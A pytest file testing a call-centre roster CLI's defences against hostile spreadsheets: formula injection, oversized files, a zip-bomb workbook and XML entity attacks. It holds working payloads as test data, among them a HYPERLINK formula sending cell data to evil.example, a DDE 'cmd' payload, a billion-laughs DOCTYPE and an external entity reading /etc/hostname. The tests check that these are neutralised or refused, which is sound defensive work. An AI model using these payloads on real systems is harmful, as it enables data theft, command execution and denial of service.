"""``callcenter roster`` against hostile files and hostile cells, the way a grid worker's file arrives:
exports never carry a formula, oversized files and workbooks with XML entities are refused whole."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from callcenter.cli import app
from contacts.spreadsheet import FORMULA_TRIGGERS
from tests.integration.test_roster_cli import GOOD, dump, roster_cli

pytestmark = pytest.mark.timeout(120)

HEADER = ["乡镇", "村", "网格", "联防组", "户编号", "户主", "地址", "一键电话", "联系人", "特殊关爱", "备注", "标签",
          "家庭成员", "钥匙持有人"]
# What a malicious (or careless) hand could type into a roster: formulas that run when a
# colleague opens the export in Excel or WPS.
HOSTILE = {
    "head": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "address": "+1+2 石桥村一组9号",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact": "-2+3",
}


def _hostile_csv(path: Path) -> Path:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    writer.writerow(["城关镇", "石桥村", "第一网格", "一组", "SQ-009", HOSTILE["head"], HOSTILE["address"],
                     "+8613800001009", f"{HOSTILE['contact']}:13800001001", "", HOSTILE["notes"], "", "", ""])
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def _exported_cells(path: Path) -> list[str]:
    if path.suffix == ".csv":
        return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in row]
    book = load_workbook(path)  # not read-only: each cell's data type is known
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell was written as a formula"
    return [str(c.value) for c in cells]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exported_cells_never_start_a_formula_and_import_back_unchanged(tmp_path: Path, suffix: str) -> None:
    db, again = tmp_path / "a.db", tmp_path / "b.db"
    assert roster_cli(db, "import", str(_hostile_csv(tmp_path / "hostile.csv"))).exit_code == 0
    export = tmp_path / f"export{suffix}"
    result = roster_cli(db, "export", str(export))
    assert result.exit_code == 0, result.output

    cells = _exported_cells(export)
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    for text in (HOSTILE["head"], HOSTILE["address"], HOSTILE["notes"]):
        assert "'" + text in cells  # neutralised, still readable
    assert "'" + HOSTILE["contact"] + ":13800001001" in cells
    assert "13800001009" in cells  # a mainland number is exported usable, with no quote and no +

    result = roster_cli(again, "import", str(export))
    assert result.exit_code == 0, result.output
    assert dump(again) == dump(db)  # the quote is the export's, not the data's


def test_a_roster_larger_than_the_limit_is_refused_before_anything_is_stored(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    assert roster_cli(db, "import", str(GOOD / "base.csv")).exit_code == 0
    before = dump(db)
    big = tmp_path / "big.csv"
    big.write_bytes((GOOD / "base.csv").read_bytes() + b"#" * 5000)
    env = {"CALLCENTER_DATABASE_URL": f"sqlite:///{db}", "CALLCENTER_DIRECTORY__MAX_ROSTER_BYTES": "4096"}
    result = CliRunner().invoke(app, ["roster", "import", str(big)], env=env)
    assert result.exit_code == 1
    assert "directory.max_roster_bytes" in result.output and "nothing was imported" in result.output
    assert dump(db) == before


def test_a_workbook_unpacking_to_hundreds_of_megabytes_is_refused_unread(tmp_path: Path) -> None:
    db, bomb = tmp_path / "a.db", tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive, \
            archive.open("xl/worksheets/sheet1.xml", "w") as member:  # ~300 KB on disk
        for _ in range(260):
            member.write(b"\0" * 1024 * 1024)
    result = roster_cli(db, "import", str(bomb))
    assert result.exit_code == 1
    assert "unpacks to 273 MB" in result.output and "nothing was imported" in result.output


_BOMB = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
         + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
         + ']>')
_EXTERNAL = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'


def _with_doctype(workbook: Path, doctype: str, entity: str, out: Path) -> Path:
    """``workbook`` with its households sheet's XML behind ``doctype`` and ``entity`` in a cell."""
    with zipfile.ZipFile(workbook) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode("utf-8").split("?>", 1)[-1]
                text = text.replace("张桂兰", entity, 1)
                data = (doctype + text).encode("utf-8")
            target.writestr(item, data)
    return out


@pytest.mark.parametrize(("doctype", "entity"), [(_BOMB, "&lol9;"), (_EXTERNAL, "&xxe;")],
                         ids=["entity-bomb", "external-entity"])
def test_a_workbook_with_xml_entities_is_refused_whole(tmp_path: Path, doctype: str, entity: str) -> None:
    db = tmp_path / "a.db"
    export = tmp_path / "export.xlsx"
    assert roster_cli(db, "import", str(GOOD / "base.csv")).exit_code == 0
    assert roster_cli(db, "export", str(export)).exit_code == 0
    before = dump(db)
    hostile = _with_doctype(export, doctype, entity, tmp_path / "hostile.xlsx")
    result = roster_cli(db, "import", str(hostile))
    assert result.exit_code == 1, result.output
    assert "XML entity declarations" in result.output
    assert dump(db) == before
